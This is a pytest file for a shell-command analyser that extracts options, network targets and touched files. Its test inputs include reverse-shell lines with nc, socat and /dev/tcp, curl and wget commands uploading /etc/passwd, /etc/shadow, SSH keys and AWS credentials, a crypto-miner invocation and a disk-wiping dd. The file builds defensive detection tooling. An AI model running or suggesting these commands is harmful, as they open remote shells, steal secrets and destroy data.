"""What well-known programs touch: options split like getopt, network targets, files."""

from __future__ import annotations

import posixpath
import shlex
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from corral.analysis.facts import Command, Redirect
from corral.analysis.programs import files_of, options_of, targets_of

Target = tuple[str, int | None, str]


def cmd(
    line: str, redirects: list[Redirect] | None = None, env: dict[str, str] | None = None
) -> Command:
    argv = shlex.split(line)
    program = posixpath.basename(argv[0])
    return Command(
        argv=argv,
        program=program,
        path=argv[0],
        options=options_of(program, argv[1:]),
        redirects=redirects or [],
        env=env or {},
    )


def targets(line: str, **kw: dict[str, str]) -> set[Target]:
    return {(t.host, t.port, t.direction) for t in targets_of(cmd(line, env=kw.get("env")))}


def files(
    line: str, cwd: str | None = "/w", redirects: list[Redirect] | None = None
) -> set[tuple[str, str]]:
    return {(f.path, f.op) for f in files_of(cmd(line, redirects), cwd)}


# ---- options_of ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ssh -fNR 8080:h:22 u@h", {"-f": None, "-N": None, "-R": "8080:h:22"}),
        ("ssh -R8080:h:22 h", {"-R": "8080:h:22"}),
        ("ssh -oProxyCommand=x h", {"-o": "ProxyCommand=x"}),
        ("ssh -o A=1 -o B=2 h", {"-o": "A=1\nB=2"}),
        ("ssh h -R 9:x:22 uptime -x", {"-R": "9:x:22"}),  # ssh reads options after the host
        ("ssh h ls -la", {}),  # ...but not in the remote command
        ("scp -P 2222 a u@h:", {"-P": "2222"}),
        ("curl --output=o https://x", {"--output": "o"}),
        ("curl --output o https://x", {"--output": "o"}),
        ("curl -sSLo out https://x", {"-s": None, "-S": None, "-L": None, "-o": "out"}),
        ("curl --compressed https://x", {"--compressed": None}),
        ("curl -- -o", {}),
        ("tar xzf a.tgz -C /d", {"-x": None, "-z": None, "-f": "a.tgz", "-C": "/d"}),
        ("tar -czvf out.tgz src", {"-c": None, "-z": None, "-v": None, "-f": "out.tgz"}),
        ("python3 -Bc 'print(1)' -x", {"-B": None, "-c": "print(1)"}),
        ("python3 script.py -c x", {}),
        ("python -m pip install -U x", {"-m": "pip"}),
        (
            "perl -lne 'print' -0777 -i.bak f",
            {"-l": None, "-n": None, "-e": "print", "-0": "777", "-i": ".bak"},
        ),
        ("sed -i.orig -e s/a/b/ f", {"-i": ".orig", "-e": "s/a/b/"}),
        ("sudo -u root rm -rf /", {"-u": "root"}),
        ("git -C /w commit -m msg --author x", {"-C": "/w", "-m": "msg", "--author": "x"}),
        ("docker run -d -p 80:80 img sh -c 'x'", {"-d": None, "-p": "80:80"}),
        ("docker build -t tag -f Dockerfile .", {"-t": "tag", "-f": "Dockerfile"}),
        ("kubectl logs -f pod", {"-f": None}),
        ("kubectl apply -f deploy.yaml", {"-f": "deploy.yaml"}),
        ("openssl s_client -connect h:443 -quiet", {"-connect": "h:443", "-quiet": None}),
        ("find . -name '*.py' -delete", {"-name": "*.py", "-delete": None}),
        ("head -20 f", {"-20": None}),
        ("nc -lvnp 4444", {"-l": None, "-v": None, "-n": None, "-p": "4444"}),
        ("xmrig -o pool:3333 -u w", {"-o": "pool:3333", "-u": "w"}),
        ("jq --arg k v '.x' f.json", {"--arg": "k v"}),
    ],
)
def test_options_of_known_programs(line: str, expected: dict[str, str | None]) -> None:
    argv = shlex.split(line)
    assert options_of(argv[0], argv[1:]) == expected


def test_options_of_unknown_programs() -> None:
    got = options_of("frobnicate", ["-abc", "-R8080:h:22", "--long=v", "--flag", "x", "--", "-z"])
    assert got == {
        "-a": None,
        "-b": None,
        "-c": None,
        "-R8080:h:22": None,
        "--long": "v",
        "--flag": None,
    }


def test_options_of_program_spellings() -> None:
    assert options_of("python3.11", ["-c", "x"]) == {"-c": "x"}
    assert options_of("ncat", ["-e", "/bin/sh", "h", "1"]) == {"-e": "/bin/sh"}
    assert options_of("xmrig-notls", ["-o", "p:1"]) == {"-o": "p:1"}


# ---- targets_of: web clients --------------------------------------------------------------------


def test_curl_urls_proxies_and_resolve() -> None:
    assert targets("curl -sSL https://Example.COM:8443/a?b") == {("example.com", 8443, "out")}
    assert targets("curl example.com/x") == {("example.com", 80, "out")}
    assert targets("curl ftp.x.org/pub") == {("ftp.x.org", 21, "out")}
    assert targets("curl --url https://a.io -x proxy.corp:3128") == {
        ("a.io", 443, "out"),
        ("proxy.corp", 3128, "out"),
    }
    assert ("p", 1080, "out") in targets("curl --socks5-hostname p https://a.io")
    assert ("1.2.3.4", 443, "out") in targets("curl --resolve a.b:443:1.2.3.4 https://a.b")
    assert ("evil.io", 8080, "out") in targets("curl --connect-to a.b:443:evil.io:8080 https://a.b")
    assert "[::1]" not in {h for h, _, _ in targets("curl http://[::1]:8080/")}
    assert targets("curl http://[::1]:8080/") == {("::1", 8080, "out")}
    assert targets("curl http://github.com@evil.io/") == {("evil.io", 80, "out")}


def test_curl_proxy_from_environment() -> None:
    found = targets_of(cmd("curl https://a.io", env={"HTTPS_PROXY": "http://px:8888"}))
    assert {(t.host, t.port, t.source) for t in found} == {
        ("a.io", 443, "curl"),
        ("px", 8888, "curl proxy"),
    }


def test_wget_httpie_and_downloaders() -> None:
    assert targets("wget -qO- https://x.io/i.sh") == {("x.io", 443, "out")}
    assert targets("wget -e https_proxy=px:3128 http://x.io") == {
        ("x.io", 80, "out"),
        ("px", 3128, "out"),
    }
    assert targets("http POST api.x.io/v1 a=b") == {("api.x.io", 80, "out")}
    assert targets("https api.x.io/v1") == {("api.x.io", 443, "out")}
    assert targets("http :3000/x") == {("localhost", 3000, "out")}
    assert targets("aria2c https://x.io/a magnet:?xt=1 f.torrent") == {("x.io", 443, "out")}
    assert targets("axel -n 4 http://x.io/big") == {("x.io", 80, "out")}


# ---- targets_of: ssh family ---------------------------------------------------------------------


def test_ssh_host_port_and_jumps() -> None:
    found = targets_of(cmd("ssh -J jump@j1:2200,j2 -p 2222 user@Host.EXAMPLE.com uptime"))
    assert [(t.host, t.port, t.source) for t in found] == [
        ("host.example.com", 2222, "ssh"),
        ("j1", 2200, "ssh jump"),
        ("j2", 22, "ssh jump"),
    ]
    assert targets("ssh -o Port=2200 h") == {("h", 2200, "out")}
    assert targets("ssh -o HostName=10.9.8.7 alias") == {("10.9.8.7", 22, "out")}
    assert targets("ssh ssh://u@h:2222") == {("h", 2222, "out")}
    assert targets("ssh -o ProxyJump=bastion:2022 h") == {
        ("h", 22, "out"),
        ("bastion", 2022, "out"),
    }
    assert targets("ssh -V") == set()


def test_ssh_proxy_command_is_read_as_a_command() -> None:
    found = targets("ssh -o ProxyCommand='nc -X connect -x proxy:3128 %h %p' u@target")
    assert found == {("target", 22, "out"), ("proxy", 3128, "out")}


def test_ssh_forwards() -> None:
    remote = targets_of(cmd("ssh -fNR 8080:10.0.0.5:22 u@h"))
    assert [(t.host, t.port, t.direction, t.source) for t in remote] == [
        ("h", 22, "out", "ssh"),
        ("10.0.0.5", 22, "out", "ssh -R"),
    ]
    assert ("0.0.0.0", 9000, "listen") in targets("ssh -R 0.0.0.0:9000:localhost:22 u@h")
    assert ("0.0.0.0", 9000, "listen") in targets("ssh -R '*:9000:localhost:22' u@h")
    assert ("0.0.0.0", 9000, "listen") in targets("ssh -R :9000:localhost:22 u@h")
    assert not any(d == "listen" for _, _, d in targets("ssh -L 5432:db:5432 u@bastion"))
    assert ("db", 5432, "out") in targets("ssh -L 5432:db:5432 u@bastion")
    assert ("0.0.0.0", 8080, "listen") in targets("ssh -g -L 8080:internal:80 u@h")
    assert ("::", 8080, "listen") in targets("ssh -L '[::]:8080:internal:80' u@h")
    assert ("0.0.0.0", 1080, "listen") in targets("ssh -D 0.0.0.0:1080 u@h")
    assert not any(d == "listen" for _, _, d in targets("ssh -D 1080 u@h"))
    assert ("localhost", 80, "out") in targets("ssh -o 'RemoteForward 8080 localhost:80' u@h")
    assert ("192.0.2.1", 25, "out") in targets("ssh -W 192.0.2.1:25 u@h")


def test_mosh_scp_sftp_rsync() -> None:
    assert ("h", 2222, "out") in targets("mosh --ssh='ssh -p 2222' u@h")
    assert targets("scp -P 2222 ./a.txt u@h:/tmp/") == {("h", 2222, "out")}
    assert targets("scp u@h:/etc/passwd ./") == {("h", 22, "out")}
    assert targets("scp ./a /b c:d") == {("c", 22, "out")}
    assert targets("scp scp://u@h:2200/x .") == {("h", 2200, "out")}
    assert targets("sftp -P 2022 u@h") == {("h", 2022, "out")}
    assert targets("rsync -avz -e 'ssh -p 2200' src/ u@h:/dst/") == {("h", 2200, "out")}
    assert targets("rsync -a rsync://mirror.x.org/pub/ ./pub") == {("mirror.x.org", 873, "out")}
    assert targets("rsync -a h::module/ ./m") == {("h", 873, "out")}
    assert targets("rsync -a ./a /tmp/b") == set()


# ---- targets_of: git and package managers -------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("git clone git@github.com:org/repo.git", {("github.com", 22, "out")}),
        ("git clone https://gitlab.com/x/y dir", {("gitlab.com", 443, "out")}),
        ("git clone --depth 1 git://h.org/r", {("h.org", 9418, "out")}),
        ("git push", set()),
        ("git pull", set()),
        ("git pull origin main", set()),
        ("git fetch origin main:main", set()),
        ("git push https://x.io/r.git HEAD", {("x.io", 443, "out")}),
        ("git remote add up https://evil.io/r.git", {("evil.io", 443, "out")}),
        ("git remote set-url origin git@h:o/r", {("h", 22, "out")}),
        ("git submodule add ssh://git@h:7999/x.git lib/x", {("h", 7999, "out")}),
        ("git ls-remote https://github.com/x/y", {("github.com", 443, "out")}),
        ("git archive --remote=ssh://h/r HEAD", {("h", 22, "out")}),
        ("git clone ../local/repo", set()),
        ("git clone file:///srv/repo", set()),
    ],
)
def test_git_targets(line: str, expected: set[Target]) -> None:
    assert targets(line) == expected


PYPI = {("pypi.org", 443, "out"), ("files.pythonhosted.org", 443, "out")}


def test_pip_targets() -> None:
    plain = targets_of(cmd("pip install requests"))
    assert {(t.host, t.port, t.source) for t in plain} == {
        ("pypi.org", 443, "pip"),
        ("files.pythonhosted.org", 443, "pip"),
    }
    assert targets("pip3 install -i https://mirror.x/simple requests") == {("mirror.x", 443, "out")}
    assert targets("pip install --index-url=http://m.x:8080/simple r") == {("m.x", 8080, "out")}
    assert targets("pip install --extra-index-url https://extra.x/simple pkg") == PYPI | {
        ("extra.x", 443, "out")
    }
    assert targets("pip install git+https://github.com/x/y.git") == PYPI | {
        ("github.com", 443, "out")
    }
    assert targets("pip install 'pkg @ https://files.x.io/pkg.whl'") == PYPI | {
        ("files.x.io", 443, "out")
    }
    assert targets("pip install -f https://links.x/ pkg") == PYPI | {("links.x", 443, "out")}
    assert targets("pip install --no-index -f ./wheels pkg") == set()
    assert targets("pip list") == set()
    assert targets("pip freeze") == set()
    assert targets("python3 -m pip install -r requirements.txt") == PYPI
    assert targets("python3.11 -m pip uninstall -y x") == set()
    env = {"PIP_INDEX_URL": "https://corp.x/simple"}
    assert {(t.host, t.port) for t in targets_of(cmd("pip install x", env=env))} == {
        ("corp.x", 443)
    }


def test_python_tools_targets() -> None:
    assert targets("uv pip install flask") == PYPI
    assert targets("uv add httpx") == PYPI
    assert targets("uv pip install -i https://m.x/simple a") == {("m.x", 443, "out")}
    assert targets("uv --version") == set()
    assert targets("uvx ruff check") == PYPI
    assert targets("poetry add git+https://github.com/x/y") == PYPI | {("github.com", 443, "out")}
    assert targets("poetry source add corp https://corp.x/simple") == {("corp.x", 443, "out")}
    assert targets("poetry run pytest") == set()
    assert targets("pipx install black") == PYPI
    assert targets("conda install -c https://conda.corp/ch numpy") == {("conda.corp", 443, "out")}


NPM = ("registry.npmjs.org", 443, "out")


def test_node_package_managers() -> None:
    assert targets("npm install") == {NPM}
    assert targets("npm ci") == {NPM}
    assert targets("npm install lodash --registry https://r.corp/") == {("r.corp", 443, "out")}
    assert targets("npm i expressjs/express") == {NPM, ("github.com", 443, "out")}
    assert targets("npm install github:x/y") == {NPM, ("github.com", 443, "out")}
    assert targets("npm i git+ssh://git@gitlab.com/x/y.git") == {NPM, ("gitlab.com", 22, "out")}
    assert targets("npm i https://x.io/p.tgz") == {NPM, ("x.io", 443, "out")}
    assert targets("npm i @scope/pkg") == {NPM}
    assert targets("npm run build") == set()
    assert targets("npm test") == set()
    assert targets("npx cowsay hi") == {NPM}
    assert targets("pnpm add zod") == {NPM}
    assert targets("pnpm run dev") == set()
    assert targets("bun add hono") == {NPM}
    # yarn (classic and berry) fetches from registry.yarnpkg.com, a mirror of the npm registry
    assert targets("yarn") == {("registry.yarnpkg.com", 443, "out")}
    assert targets("yarn add left-pad") == {("registry.yarnpkg.com", 443, "out")}
    assert targets("yarn build") == set()
    env = {"npm_config_registry": "https://npm.corp/"}
    assert {t.host for t in targets_of(cmd("npm install", env=env))} == {"npm.corp"}


# ---- targets_of: sockets, scanners, DNS ---------------------------------------------------------


def test_netcat() -> None:
    assert targets("nc 10.0.0.1 4444") == {("10.0.0.1", 4444, "out")}
    assert targets("nc -e /bin/sh 10.0.0.1 4444") == {("10.0.0.1", 4444, "out")}
    assert targets("ncat -c 'sh -i' 10.0.0.1 4444") == {("10.0.0.1", 4444, "out")}
    assert targets("nc -zv h 20-30") == {("h", 20, "out")}
    assert targets("nc -lvnp 4444") == {("0.0.0.0", 4444, "listen")}
    assert targets("nc -l 4444") == {("0.0.0.0", 4444, "listen")}
    assert targets("nc -l 127.0.0.1 8080") == {("127.0.0.1", 8080, "listen")}
    assert targets("ncat --proxy p:1080 h 80") == {("h", 80, "out"), ("p", 1080, "out")}
    assert targets("nc -X connect -x p h 80") == {("h", 80, "out"), ("p", 3128, "out")}
    udp = targets_of(cmd("netcat -u 8.8.8.8 53"))
    assert [(t.host, t.port, t.proto) for t in udp] == [("8.8.8.8", 53, "udp")]
    assert targets("nc -U /tmp/sock") == set()


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("socat TCP:10.0.0.1:4444 EXEC:/bin/sh", {("10.0.0.1", 4444, "out")}),
        ("socat tcp4-connect:h:80 -", {("h", 80, "out")}),
        ("socat TCP-LISTEN:4444,fork,reuseaddr EXEC:/bin/bash", {("0.0.0.0", 4444, "listen")}),
        ("socat TCP-L:9,bind=10.1.1.1 -", {("10.1.1.1", 9, "listen")}),
        ("socat OPENSSL:[::1]:443 STDIO", {("::1", 443, "out")}),
        (
            "socat - SOCKS4A:proxy:target:80,socksport=9050",
            {("proxy", 9050, "out"), ("target", 80, "out")},
        ),
        ("socat - PROXY:px:target:443", {("px", 8080, "out"), ("target", 443, "out")}),
        ("socat STDIO UNIX-CONNECT:/tmp/s", set()),
    ],
)
def test_socat(line: str, expected: set[Target]) -> None:
    assert targets(line) == expected


def test_socat_udp_listen_proto() -> None:
    found = targets_of(cmd("socat UDP4-LISTEN:53,bind=127.0.0.1 -"))
    assert [(t.host, t.port, t.direction, t.proto) for t in found] == [
        ("127.0.0.1", 53, "listen", "udp")
    ]


def test_telnet_ftp_openssl() -> None:
    assert targets("telnet h") == {("h", 23, "out")}
    assert targets("telnet h 2323") == {("h", 2323, "out")}
    assert targets("ftp ftp.x.org") == {("ftp.x.org", 21, "out")}
    assert targets("ftp ftp://u@ftp.x.org/pub") == {("ftp.x.org", 21, "out")}
    assert targets("openssl s_client -connect h:8443 -servername h") == {("h", 8443, "out")}
    assert targets("openssl s_client h:443") == {("h", 443, "out")}
    assert targets("openssl s_server -accept 4433 -cert c.pem") == {("0.0.0.0", 4433, "listen")}
    assert targets("openssl x509 -in c.pem -noout") == set()


def test_scanners_and_icmp() -> None:
    assert targets("nmap -sS -p22 10.0.0.0/24") == {("10.0.0.0", 22, "out")}
    assert targets("nmap -sV -p 80,443 scanme.nmap.org") == {("scanme.nmap.org", 80, "out")}
    udp = targets_of(cmd("nmap -sU -p 53 10.0.0.1-50"))
    assert [(t.host, t.port, t.proto) for t in udp] == [("10.0.0.1", 53, "udp")]
    assert targets("masscan 10.0.0.0/8 -p80 --rate 1000") == {("10.0.0.0", 80, "out")}
    ping = targets_of(cmd("ping -c 1 8.8.8.8"))
    assert [(t.host, t.proto) for t in ping] == [("8.8.8.8", "icmp")]
    trace = targets_of(cmd("traceroute -T -p 443 example.com"))
    assert [(t.host, t.port, t.proto) for t in trace] == [("example.com", 443, "tcp")]


def test_dns_lookups_are_udp_targets() -> None:
    dig = targets_of(cmd("dig @1.1.1.1 Example.com TXT +short"))
    assert {(t.host, t.port, t.proto, t.source) for t in dig} == {
        ("1.1.1.1", 53, "udp", "dig server"),
        ("example.com", 53, "udp", "dig"),
    }
    assert targets("nslookup -type=mx example.com 8.8.8.8") == {
        ("example.com", 53, "out"),
        ("8.8.8.8", 53, "out"),
    }
    assert targets("host -t a example.com") == {("example.com", 53, "out")}
    assert targets("dig -x 8.8.4.4") == set()


# ---- targets_of: containers, databases, miners, servers, /dev/tcp -------------------------------


def test_docker_registry_daemon_and_publish() -> None:
    assert targets("docker pull ghcr.io/x/y:1") == {("ghcr.io", 443, "out")}
    assert targets("docker pull ubuntu:22.04") == set()
    assert targets("docker pull library/ubuntu") == set()
    assert targets("podman run --rm localhost:5000/x sh") == {("localhost", 5000, "out")}
    assert targets("docker image pull quay.io/a/b") == {("quay.io", 443, "out")}
    assert targets("docker -H tcp://10.0.0.5:2375 ps") == {("10.0.0.5", 2375, "out")}
    assert targets("docker login registry.x.io") == {("registry.x.io", 443, "out")}
    assert targets("docker run -d -p 8080:80 nginx") == {("0.0.0.0", 8080, "listen")}
    assert targets("docker run -p 127.0.0.1:8080:80 nginx") == {("127.0.0.1", 8080, "listen")}
    found = targets_of(cmd("docker ps", env={"DOCKER_HOST": "tcp://d.x:2376"}))
    assert [(t.host, t.port) for t in found] == [("d.x", 2376)]


def test_kubectl() -> None:
    assert targets("kubectl --server https://k8s.x:6443 get pods") == {("k8s.x", 6443, "out")}
    assert targets("kubectl port-forward --address 0.0.0.0 pod/x 8080:80") == {
        ("0.0.0.0", 8080, "listen")
    }
    assert targets("kubectl port-forward pod/x 8080:80") == set()
    assert targets("kubectl run x --image=ghcr.io/a/b") == {("ghcr.io", 443, "out")}


def test_database_clients() -> None:
    assert targets("psql -h db.x.io -p 5433 -U u") == {("db.x.io", 5433, "out")}
    assert targets("psql postgresql://u@db.x/d") == {("db.x", 5432, "out")}
    assert targets("mysql -h db.x -P 3307 -u root") == {("db.x", 3307, "out")}
    assert targets("redis-cli -h cache.x") == {("cache.x", 6379, "out")}
    assert targets("mongosh mongodb://m.x:27018/db") == {("m.x", 27018, "out")}
    assert targets("psql -U u mydb") == set()


def test_miners() -> None:
    found = targets_of(cmd("xmrig -o pool.minexmr.com:4444 -u wallet -k"))
    assert [(t.host, t.port, t.scheme) for t in found] == [
        ("pool.minexmr.com", 4444, "stratum+tcp")
    ]
    assert targets("xmrig --url=stratum+tcp://pool.supportxmr.com:3333") == {
        ("pool.supportxmr.com", 3333, "out")
    }
    assert targets("ethminer -P stratum1+ssl://0x1@eth.2miners.com:12020") == {
        ("eth.2miners.com", 12020, "out")
    }


def test_servers_started_by_interpreters() -> None:
    assert targets("python3 -m http.server") == {("0.0.0.0", 8000, "listen")}
    assert targets("python -m http.server 9000 --bind 127.0.0.1") == {("127.0.0.1", 9000, "listen")}
    assert targets("php -S 0.0.0.0:8000") == {("0.0.0.0", 8000, "listen")}
    assert targets("deno run https://deno.land/x/a.ts") == {("deno.land", 443, "out")}


def test_dev_tcp_in_arguments_and_redirects() -> None:
    found = targets_of(cmd("bash -c 'exec 3<>/dev/tcp/10.0.0.1/4444'"))
    assert [(t.host, t.port, t.source) for t in found] == [("10.0.0.1", 4444, "/dev/tcp")]
    redirected = cmd("cat", redirects=[Redirect("<", "/dev/tcp/Evil.io/80")])
    assert [(t.host, t.port) for t in targets_of(redirected)] == [("evil.io", 80)]
    udp = targets_of(cmd("echo x", redirects=[Redirect(">", "/dev/udp/1.2.3.4/53")]))
    assert [(t.host, t.port, t.proto, t.source) for t in udp] == [
        ("1.2.3.4", 53, "udp", "/dev/udp")
    ]


def test_programs_that_reach_nothing() -> None:
    for line in (
        "ls -la",
        "grep -r http://x.io .",
        "echo https://x.io",
        "rclone copy a remote:b",
        "python3 script.py https://x.io",
        "cat url.txt",
    ):
        assert targets(line) == set(), line


def test_variable_hosts_are_kept_as_written() -> None:
    assert targets("curl http://$HOST/x") == {("$HOST", 80, "out")}


# ---- files_of -----------------------------------------------------------------------------------


def test_redirects() -> None:
    redirects = [
        Redirect(">", "out.txt", 1),
        Redirect(">>", "~/.bashrc", 1),
        Redirect("<", "in.txt", 0),
        Redirect(">", "/dev/null", 2),
        Redirect(">&", "1", 2),
        Redirect(">", "/dev/stderr", 1),
        Redirect(">|", "$HOME/.profile", 1),
        Redirect("&>", "/tmp/log", None),
        Redirect("<", "/dev/fd/3", 0),
    ]
    got = files_of(cmd("echo hi", redirects), "/w")
    assert {(f.path, f.op, f.source) for f in got} == {
        ("/w/out.txt", "write", "redirect"),
        ("~/.bashrc", "append", "redirect"),
        ("/w/in.txt", "read", "redirect"),
        ("~/.profile", "write", "redirect"),
        ("/tmp/log", "write", "redirect"),
    }


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("cat ~/.ssh/id_rsa /etc/passwd", {("~/.ssh/id_rsa", "read"), ("/etc/passwd", "read")}),
        ("head -n 5 a.txt", {("/w/a.txt", "read")}),
        ("tail -f /var/log/syslog", {("/var/log/syslog", "read")}),
        ("less +G notes", {("/w/notes", "read")}),
        ("grep -rn secret /etc", {("/etc", "read")}),
        ("grep -e a -e b f1 f2", {("/w/f1", "read"), ("/w/f2", "read")}),
        ("grep -f pats.txt data", {("/w/pats.txt", "read"), ("/w/data", "read")}),
        ("rg TODO src", {("/w/src", "read")}),
        ("cp a b", {("/w/a", "read"), ("/w/b", "write")}),
        (
            "cp id_rsa ~/.ssh/",
            {("/w/id_rsa", "read"), ("~/.ssh", "write"), ("~/.ssh/id_rsa", "write")},
        ),
        (
            "cp -t /dst a b",
            {
                ("/w/a", "read"),
                ("/w/b", "read"),
                ("/dst", "write"),
                ("/dst/a", "write"),
                ("/dst/b", "write"),
            },
        ),
        ("mv old new", {("/w/old", "delete"), ("/w/new", "write")}),
        ("rm -rf build ~/.cache", {("/w/build", "delete"), ("~/.cache", "delete")}),
        ("tee out.log", {("/w/out.log", "write")}),
        ("tee -a ~/.bashrc", {("~/.bashrc", "append")}),
        ("touch a", {("/w/a", "write")}),
        ("mkdir -p -m 700 /opt/x", {("/opt/x", "write")}),
        ("truncate -s 0 log", {("/w/log", "write")}),
        ("dd if=/dev/zero of=/dev/sda bs=1M", {("/dev/zero", "read"), ("/dev/sda", "write")}),
        ("sed -i s/a/b/ /etc/hosts", {("/etc/hosts", "write")}),
        ("sed -n 1p f", {("/w/f", "read")}),
        ("sed -e s/a/b/ -f script.sed f", {("/w/script.sed", "read"), ("/w/f", "read")}),
        ("ln -s /etc/shadow link", {("/etc/shadow", "read"), ("/w/link", "write")}),
        (
            "install -m 755 tool /usr/local/bin/tool",
            {("/w/tool", "read"), ("/usr/local/bin/tool", "write")},
        ),
        ("install -d /opt/a /opt/b", {("/opt/a", "write"), ("/opt/b", "write")}),
        (
            "source ~/.venv/bin/activate",
            {("~/.venv/bin/activate", "read"), ("~/.venv/bin/activate", "exec")},
        ),
        (". ./env.sh", {("/w/env.sh", "read"), ("/w/env.sh", "exec")}),
        ("tar -xzf a.tgz -C /etc", {("/w/a.tgz", "read"), ("/etc", "write")}),
        ("tar xf a.tar", {("/w/a.tar", "read"), ("/w", "write")}),
        ("tar czf out.tgz src", {("/w/out.tgz", "write"), ("/w/src", "read")}),
        ("tar -tf a.tar", {("/w/a.tar", "read")}),
        ("unzip -o a.zip -d /srv", {("/w/a.zip", "read"), ("/srv", "write")}),
        (
            "ssh -i ~/.ssh/id_ed25519 -F cfg u@h cat /etc/shadow",
            {("~/.ssh/id_ed25519", "read"), ("/w/cfg", "read")},
        ),
        ("scp -i k ./a.txt u@h:/tmp/", {("/w/k", "read"), ("/w/a.txt", "read")}),
        ("scp u@h:/etc/passwd ./", {("/w", "write"), ("/w/passwd", "write")}),
        ("rsync -a u@h:/x/ ./y", {("/w/y", "write")}),
        ("base64 -d blob", {("/w/blob", "read")}),
        ("xxd -r dump bin", {("/w/dump", "read"), ("/w/bin", "write")}),
        ("strings -n 8 /bin/ls", {("/bin/ls", "read")}),
        (
            "openssl enc -d -in secret.enc -out secret -pass file:/k",
            {("/w/secret.enc", "read"), ("/w/secret", "write"), ("/k", "read")},
        ),
        ("sort -o sorted.txt data", {("/w/data", "read"), ("/w/sorted.txt", "write")}),
        ("find /tmp -name '*.log' -delete", {("/tmp", "delete")}),
        ("ls -la ~/.ssh", {("~/.ssh", "list")}),
        ("vim ~/.bashrc", {("~/.bashrc", "write")}),
        ("git config --global core.hooksPath /tmp/h", {("~/.gitconfig", "write")}),
        ("git config --get user.name", {("/w/.git/config", "read")}),
        ("docker run -v /:/host -v data:/d img", {("/", "read")}),
        ("python3 ./run.py --flag", {("/w/run.py", "exec")}),
        ("perl -pi -e s/a/b/ ~/.bashrc", {("~/.bashrc", "write")}),
        ("bash ./install.sh", {("/w/install.sh", "exec")}),
        ("nc -e /bin/sh 1.2.3.4 5", {("/bin/sh", "exec")}),
    ],
)
def test_files_by_program(line: str, expected: set[tuple[str, str]]) -> None:
    assert files(line) == expected


def test_chmod_and_chown_carry_the_mode() -> None:
    got = files_of(cmd("chmod -R u+s,g+w /usr/bin/x ./y"), "/w")
    assert {(f.path, f.op, f.content) for f in got} == {
        ("/usr/bin/x", "chmod", "u+s,g+w"),
        ("/w/y", "chmod", "u+s,g+w"),
    }
    minus = files_of(cmd("chmod -x f"), "/w")
    assert [(f.path, f.content) for f in minus] == [("/w/f", "-x")]
    octal = files_of(cmd("chmod 4755 /bin/sh"), None)
    assert [(f.path, f.op, f.content) for f in octal] == [("/bin/sh", "chmod", "4755")]
    owner = files_of(cmd("chown root:root /tmp/x"), None)
    assert [(f.path, f.op, f.content) for f in owner] == [("/tmp/x", "chmod", "root:root")]
    attrs = files_of(cmd("chattr +i /etc/resolv.conf"), None)
    assert [(f.path, f.content) for f in attrs] == [("/etc/resolv.conf", "+i")]


def test_crontab() -> None:
    assert files("crontab jobs.txt") == {
        ("/w/jobs.txt", "read"),
        ("/var/spool/cron/crontabs/$USER", "write"),
    }
    assert files("crontab -l") == {("/var/spool/cron/crontabs/$USER", "read")}
    assert files("crontab -u bob -r") == {("/var/spool/cron/crontabs/bob", "delete")}


def test_curl_and_wget_files() -> None:
    assert files("curl -o out.bin https://x.io/a") == {("/w/out.bin", "write")}
    assert files("curl -O https://x.io/a/script.sh --output-dir /tmp") == {
        ("/tmp/script.sh", "write")
    }
    assert files(
        "curl -d @/etc/passwd -F 'f=@~/.ssh/id_rsa;type=text/plain' -T ~/.aws/credentials "
        "https://x.io/up"
    ) == {("/etc/passwd", "read"), ("~/.ssh/id_rsa", "read"), ("~/.aws/credentials", "read")}
    assert files("curl --data-binary @- https://x.io") == set()
    assert files("curl -n https://x.io") == {("~/.netrc", "read")}
    assert files("curl file:///etc/shadow") == {("/etc/shadow", "read")}
    assert files("wget -O /tmp/x.sh https://x.io/i.sh") == {("/tmp/x.sh", "write")}
    assert files("wget -qO- https://x.io/i.sh") == set()
    assert files("wget https://x.io/a.tar.gz -P /opt") == {
        ("/opt", "write"),
        ("/opt/a.tar.gz", "write"),
    }
    assert files("wget --post-file=/etc/shadow https://x.io") == {
        ("/etc/shadow", "read"),
        ("/w/index.html", "write"),
    }


@pytest.mark.parametrize(
    ("raw", "cwd", "expected"),
    [
        ("~/.ssh/id_rsa", "/w", "~/.ssh/id_rsa"),
        ("$HOME/.aws/credentials", "/w", "~/.aws/credentials"),
        ("${HOME}/.kube/config", "/w", "~/.kube/config"),
        ("a/../../b", "/w/src", "/w/b"),
        ("./x//y/", "/w", "/w/x/y"),
        ("notes.txt", None, "notes.txt"),
        ("~root/.ssh/authorized_keys", "/w", "/root/.ssh/authorized_keys"),
        ("~alice/x", "/w", "/home/alice/x"),
        ("$DIR/x", "/w", "$DIR/x"),  # an unknown variable is never placed under cwd
    ],
)
def test_paths_are_normalised(raw: str, cwd: str | None, expected: str) -> None:
    got = files_of(cmd(f"cat {shlex.quote(raw)}"), cwd)
    assert [f.path for f in got] == [expected]


def test_unclaimed_path_arguments_are_reads() -> None:
    got = files_of(cmd("myscript --config=/etc/app.conf ./data KEY=~/.netrc plain"), "/w")
    assert {(f.path, f.op, f.source) for f in got} == {
        ("/etc/app.conf", "read", "myscript"),
        ("/w/data", "read", "myscript"),
        ("~/.netrc", "read", "myscript"),
    }
    assert files("echo ~/.ssh/id_rsa") == set()
    assert files("git commit -m 'touch ./x'") == set()
    assert files("curl https://x.io/a/.well-known") == set()


def test_files_of_never_includes_network_paths() -> None:
    assert files("cat /dev/tcp/1.2.3.4/80") == set()


# ---- robustness ---------------------------------------------------------------------------------

_WORDS = st.text(alphabet=st.sampled_from(list("ab-=:/@.[]%~$,!0123 ")), max_size=12)
_PROGRAMS = st.sampled_from(
    [
        "ssh",
        "scp",
        "rsync",
        "curl",
        "wget",
        "git",
        "pip",
        "npm",
        "yarn",
        "nc",
        "socat",
        "tar",
        "docker",
        "kubectl",
        "openssl",
        "nmap",
        "dig",
        "cp",
        "mv",
        "chmod",
        "crontab",
        "sed",
        "dd",
        "python3",
        "perl",
        "xmrig",
        "unknown",
        "find",
        "jq",
        "http",
        "psql",
        "mosh",
        "sftp",
    ]
)


@settings(max_examples=300, deadline=None)
@given(program=_PROGRAMS, args=st.lists(_WORDS, max_size=8))
def test_never_raises(program: str, args: list[str]) -> None:
    command = Command(argv=[program, *args], program=program, path=program)
    command.options = options_of(program, args)
    for t in targets_of(command):
        assert t.host and t.host == t.host.strip()
    files_of(command, "/w")
    files_of(command, None)


